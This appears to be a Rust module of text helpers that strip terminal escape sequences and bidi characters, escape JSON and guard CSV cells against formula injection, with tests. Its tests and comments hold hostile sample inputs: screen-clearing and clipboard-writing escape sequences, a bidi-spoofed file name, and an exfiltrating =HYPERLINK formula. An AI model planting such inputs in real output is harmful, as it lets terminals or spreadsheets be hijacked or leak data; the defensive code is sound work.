//! Small text helpers shared by chunking, ingestion and display.

/// Remove everything that could drive a terminal or reorder what it shows: ANSI/VT
/// escape sequences (CSI, OSC, DCS and two-byte ESC sequences), C0/C1 control
/// characters except `\n` and `\t`, and the bidirectional formatting characters
/// ([`is_bidi_control`]). Corpus text, questions, reviewer names, notes, rubric text
/// and model output are untrusted: this is the one function every pane and every CLI
/// text printer passes them through (JSON output stays exact, escaped by serde).
pub fn sanitize_for_terminal(input: &str) -> String {
    // Most text holds nothing to remove: one scan that allocates nothing says so (a
    // million-chunk corpus is shown without walking each text char by char).
    if is_terminal_safe(input) {
        return input.to_owned();
    }
    strip_active(input)
}

/// [`sanitize_for_terminal`] char by char.
fn strip_active(input: &str) -> String {
    let mut out = String::with_capacity(input.len());
    let mut chars = input.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\u{1b}' => skip_escape(&mut chars),
            // 8-bit CSI and OSC/DCS/APC/PM/SOS introducers.
            '\u{9b}' => skip_until_final(&mut chars),
            '\u{90}' | '\u{9d}' | '\u{9e}' | '\u{9f}' | '\u{98}' => skip_string(&mut chars),
            '\n' | '\t' => out.push(c),
            '\r' => {}
            c if c.is_control() || is_bidi_control(c) => {}
            c => out.push(c),
        }
    }
    out
}

/// Bidirectional embeddings, overrides, isolates and marks (U+202A-U+202E,
/// U+2066-U+2069, U+200E, U+200F, U+061C): they can make a line display in an order
/// other than the one stored ("Trojan Source"), so a label or id could read as another.
pub fn is_bidi_control(c: char) -> bool {
    matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{061c}')
}

/// True when `s` holds nothing [`sanitize_for_terminal`] would remove or change.
pub fn is_terminal_safe(s: &str) -> bool {
    // Printable ASCII, tabs and newlines: a byte scan the compiler vectorises.
    if s.bytes().all(|b| matches!(b, b'\t' | b'\n' | 0x20..=0x7e)) {
        return true;
    }
    !s.chars()
        .any(|c| (c.is_control() && c != '\n' && c != '\t') || is_bidi_control(c))
}

/// JSON text that shows safely on a terminal and still parses to the same value: every
/// character a terminal acts on that serde leaves as it is (DEL, the C1 controls
/// U+0080-U+009F, which include the 8-bit CSI and OSC introducers, and the bidi
/// controls) becomes its `\uXXXX` escape. Such characters can only stand inside JSON
/// strings, where the escape means the same character, so the data stays exact.
pub fn json_for_terminal(json: &str) -> String {
    escape_active(json, |c, out| {
        out.push_str(&format!("\\u{:04x}", u32::from(c)));
    })
}

/// Text of a raw export (CSV, JSONL) shown on a terminal: every control character but
/// `\n` and `\t`, and every bidi control, is written as a visible `\u{XX}` instead of
/// being sent to the terminal. Files written with `--out` stay byte-exact; this is only
/// for a person reading standard output.
pub fn visible_controls(text: &str) -> String {
    escape_active(text, |c, out| {
        out.push_str(&format!("\\u{{{:x}}}", u32::from(c)));
    })
}

fn escape_active(text: &str, mut escape: impl FnMut(char, &mut String)) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        if (c.is_control() && c != '\n' && c != '\t') || is_bidi_control(c) {
            escape(c, &mut out);
        } else {
            out.push(c);
        }
    }
    out
}

/// A CSV cell (RFC 4180: quoted when it holds a comma, a quote or a line break), with
/// the spreadsheet-formula guard: a cell that starts with `=`, `+`, `-`, `@`, a tab or
/// a carriage return is run as a formula by Excel, LibreOffice and Google Sheets (a note
/// `=HYPERLINK("http://x/?"&B2,"ok")` sends the row away when clicked), so it gets a
/// leading `'`, as OWASP recommends. Numbers (`-0.25`, `+3`) are left as they are: a
/// number is not a formula, and the `'` would make it text.
pub fn csv_cell(s: &str) -> String {
    let guarded = guard_formula(s);
    if guarded.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", guarded.replace('"', "\"\""))
    } else {
        guarded.into_owned()
    }
}

/// [`csv_cell`], always quoted.
pub fn csv_quoted(s: &str) -> String {
    format!("\"{}\"", guard_formula(s).replace('"', "\"\""))
}

fn guard_formula(s: &str) -> std::borrow::Cow<'_, str> {
    let risky = s.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && s.trim().parse::<f64>().is_err() {
        std::borrow::Cow::Owned(format!("'{s}"))
    } else {
        std::borrow::Cow::Borrowed(s)
    }
}

fn skip_escape(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) {
    match chars.next() {
        Some('[') => skip_until_final(chars),
        Some(']' | 'P' | 'X' | '^' | '_') => skip_string(chars),
        // ESC followed by intermediates then a final byte (e.g. ESC ( B).
        Some(c) if ('\u{20}'..='\u{2f}').contains(&c) => {
            while let Some(&n) = chars.peek() {
                chars.next();
                if !('\u{20}'..='\u{2f}').contains(&n) {
                    break;
                }
            }
        }
        _ => {}
    }
}

/// CSI: parameters and intermediates up to a final byte in `@`..=`~`.
fn skip_until_final(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) {
    for c in chars.by_ref() {
        if ('\u{40}'..='\u{7e}').contains(&c) {
            break;
        }
    }
}

/// OSC/DCS-style strings end at BEL or ST (`ESC \` or U+009C).
fn skip_string(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) {
    while let Some(c) = chars.next() {
        match c {
            '\u{7}' | '\u{9c}' => break,
            '\u{1b}' => {
                if chars.peek() == Some(&'\\') {
                    chars.next();
                }
                break;
            }
            _ => {}
        }
    }
}

/// Lowercase ASCII alphanumeric runs joined by `-`, cut at a word boundary at `limit`
/// bytes. Must stay identical to `slug()` in scripts/build_sample_data.py, which
/// precomputes the sample questions' target chunk ids.
pub fn slug(text: &str, limit: usize) -> String {
    let lower = text.to_lowercase();
    let words: Vec<&str> = lower
        .split(|c: char| !(c.is_ascii_lowercase() || c.is_ascii_digit()))
        .filter(|w| !w.is_empty())
        .collect();
    let mut s = words.join("-");
    if s.len() > limit {
        s.truncate(limit);
        if let Some(cut) = s.rfind('-') {
            s.truncate(cut);
        }
    }
    if s.is_empty() {
        "untitled".to_string()
    } else {
        s
    }
}

/// Whitespace-separated word count, as used for length buckets.
pub fn word_count(text: &str) -> usize {
    text.split_whitespace().count()
}

/// A one-line preview of at most `max_chars` characters.
pub fn snippet(text: &str, max_chars: usize) -> String {
    let flat: String = text.split_whitespace().collect::<Vec<_>>().join(" ");
    if flat.chars().count() <= max_chars {
        flat
    } else {
        let mut s: String = flat.chars().take(max_chars.saturating_sub(1)).collect();
        s.push('…');
        s
    }
}

/// A question's terms as the BM25 index analyses text (tantivy's default tokenizer:
/// runs of alphanumeric characters, lowercased), each once, in order.
pub fn query_terms(question: &str) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    for t in question
        .split(|c: char| !c.is_alphanumeric())
        .filter(|t| !t.is_empty())
    {
        let t = t.to_lowercase();
        if !out.contains(&t) {
            out.push(t);
        }
    }
    out
}

/// `text` cut into pieces, each marked whether it is one of `terms` (whole tokens,
/// compared lowercased, as [`query_terms`] makes them). Concatenated, the pieces give
/// `text` back.
pub fn mark_terms<'a>(text: &'a str, terms: &[String]) -> Vec<(&'a str, bool)> {
    let mut out: Vec<(&'a str, bool)> = Vec::new();
    let mut push = |piece: &'a str, hit: bool| {
        if !piece.is_empty() {
            out.push((piece, hit));
        }
    };
    let mut token_start: Option<usize> = None;
    let mut plain_start = 0;
    for (i, c) in text
        .char_indices()
        .chain(std::iter::once((text.len(), ' ')))
    {
        match (c.is_alphanumeric() && i < text.len(), token_start) {
            (true, None) => token_start = Some(i),
            (false, Some(s)) => {
                let token = &text[s..i];
                if terms.iter().any(|t| *t == token.to_lowercase()) {
                    push(&text[plain_start..s], false);
                    push(token, true);
                    plain_start = i;
                }
                token_start = None;
            }
            _ => {}
        }
    }
    push(&text[plain_start..], false);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn query_terms_are_marked_as_whole_tokens_whatever_their_case() {
        let terms = query_terms("When is MMR given? mmr, dose-2");
        assert_eq!(terms, ["when", "is", "mmr", "given", "dose", "2"]);
        let text = "MMR doses: Mmr1 is given; the 2nd dose (2) is MMR.";
        let marked = mark_terms(text, &terms);
        let back: String = marked.iter().map(|(p, _)| *p).collect();
        assert_eq!(back, text);
        let hits: Vec<&str> = marked.iter().filter(|(_, h)| *h).map(|(p, _)| *p).collect();
        // Mmr1 and 2nd are other tokens; "doses" is not "dose".
        assert_eq!(hits, ["MMR", "is", "given", "dose", "2", "is", "MMR"]);
        assert_eq!(mark_terms("", &terms), Vec::<(&str, bool)>::new());
        assert_eq!(
            mark_terms("naïve café", &query_terms("CAFÉ")),
            [("naïve ", false), ("café", true)]
        );
    }

    #[test]
    fn strips_csi_osc_and_controls() {
        let evil =
            "safe\u{1b}[2J\u{1b}[1;1Hmoved\u{1b}]0;pwned title\u{7} end\u{8}\r\n\u{9b}31mred";
        assert_eq!(sanitize_for_terminal(evil), "safemoved end\nred");
    }

    #[test]
    fn strips_bidi_controls() {
        let evil = "admin\u{202e}txt.exe\u{2066}x\u{2069}\u{200e}\u{200f}\u{061c}\u{202a}y";
        let clean = sanitize_for_terminal(evil);
        assert_eq!(clean, "admintxt.exexy");
        assert!(!is_terminal_safe(evil) && is_terminal_safe(&clean));
        // Joiners are not bidi controls: emoji sequences and scripts that need them stay.
        assert!(is_terminal_safe("👩\u{200d}⚕️ क्\u{200d}ष"));
    }

    use proptest::strategy::Strategy as _;

    proptest::proptest! {
        /// The scan that lets text through unchanged agrees with the char-by-char
        /// strip on text mixing printable ASCII, Unicode letters, escapes, C0/C1
        /// controls, DEL and bidi controls.
        #[test]
        fn the_unchanged_fast_path_agrees_with_the_strip(
            s in proptest::collection::vec(proptest::prop_oneof![
                8 => proptest::char::range(' ', '~'),
                2 => proptest::char::range('\0', '\u{a0}'),
                1 => proptest::sample::select(vec!['\n', '\t', '\r', '\u{1b}', '\u{7}', '\u{7f}',
                    '\u{80}', '\u{9b}', '\u{9d}', '\u{9f}', '\u{a0}', 'é', '结', '🐛',
                    '\u{200d}', '\u{200e}', '\u{202e}', '\u{2066}', '\u{061c}']),
            ], 0..40).prop_map(|v: Vec<char>| v.into_iter().collect::<String>())
        ) {
            proptest::prop_assert_eq!(sanitize_for_terminal(&s), strip_active(&s));
            proptest::prop_assert_eq!(is_terminal_safe(&s), strip_active(&s) == s);
        }
    }

    #[test]
    fn keeps_unicode_text() {
        assert_eq!(
            sanitize_for_terminal("fièvre 结核 🐛\tx"),
            "fièvre 结核 🐛\tx"
        );
    }

    #[test]
    fn slug_matches_python_builder() {
        assert_eq!(
            slug(
                "Acanthamoeba - Granulomatous Amebic Encephalitis (GAE); Keratitis",
                64
            ),
            "acanthamoeba-granulomatous-amebic-encephalitis-gae-keratitis"
        );
        assert_eq!(slug("Prevention (2)", 64), "prevention-2");
        assert_eq!(slug("Über!", 64), "ber");
        assert_eq!(slug("???", 64), "untitled");
        assert_eq!(slug("aaaa bbbb cccc", 11), "aaaa-bbbb");
    }

    #[test]
    fn snippet_truncates_on_chars() {
        assert_eq!(snippet("a  b\nc", 10), "a b c");
        assert_eq!(snippet("ééééé", 3), "éé…");
    }

    #[test]
    fn json_for_terminal_escapes_what_a_terminal_acts_on_and_keeps_the_value() {
        let note = "ok\u{1b}]52;c;aGk=\u{7}\u{9b}31m\u{202e}txt\u{7f}é";
        let json = serde_json::to_string(&serde_json::json!({ "note": note })).expect("json");
        let shown = json_for_terminal(&json);
        assert!(is_terminal_safe(&shown), "{shown:?}");
        assert!(
            shown.contains("\\u009b") && shown.contains("\\u202e") && shown.contains("\\u007f")
        );
        let back: serde_json::Value = serde_json::from_str(&shown).expect("still JSON");
        assert_eq!(back["note"], note, "the same data");
        assert!(shown.contains('é'), "printable text is left alone");
    }

    #[test]
    fn visible_controls_shows_controls_as_text() {
        assert_eq!(visible_controls("a\u{1b}[2Jb\tc\n"), "a\\u{1b}[2Jb\tc\n");
        assert_eq!(visible_controls("x\u{9b}y\u{200f}"), "x\\u{9b}y\\u{200f}");
    }

    #[test]
    fn csv_cells_quote_and_guard_formulas_but_not_numbers() {
        assert_eq!(csv_cell("plain"), "plain");
        assert_eq!(csv_cell("a,b"), "\"a,b\"");
        assert_eq!(csv_cell("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(
            csv_cell("=HYPERLINK(\"http://x/?\"&B2,\"ok\")"),
            "\"'=HYPERLINK(\"\"http://x/?\"\"&B2,\"\"ok\"\")\""
        );
        for risky in ["+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1"] {
            assert!(
                csv_cell(risky).trim_start_matches('"').starts_with('\''),
                "{risky:?}"
            );
        }
        for number in ["-0.25", "+3", "-1e-3"] {
            assert_eq!(csv_cell(number), number);
        }
        assert_eq!(csv_quoted("=A1"), "\"'=A1\"");
        assert_eq!(csv_quoted("x"), "\"x\"");
    }
}
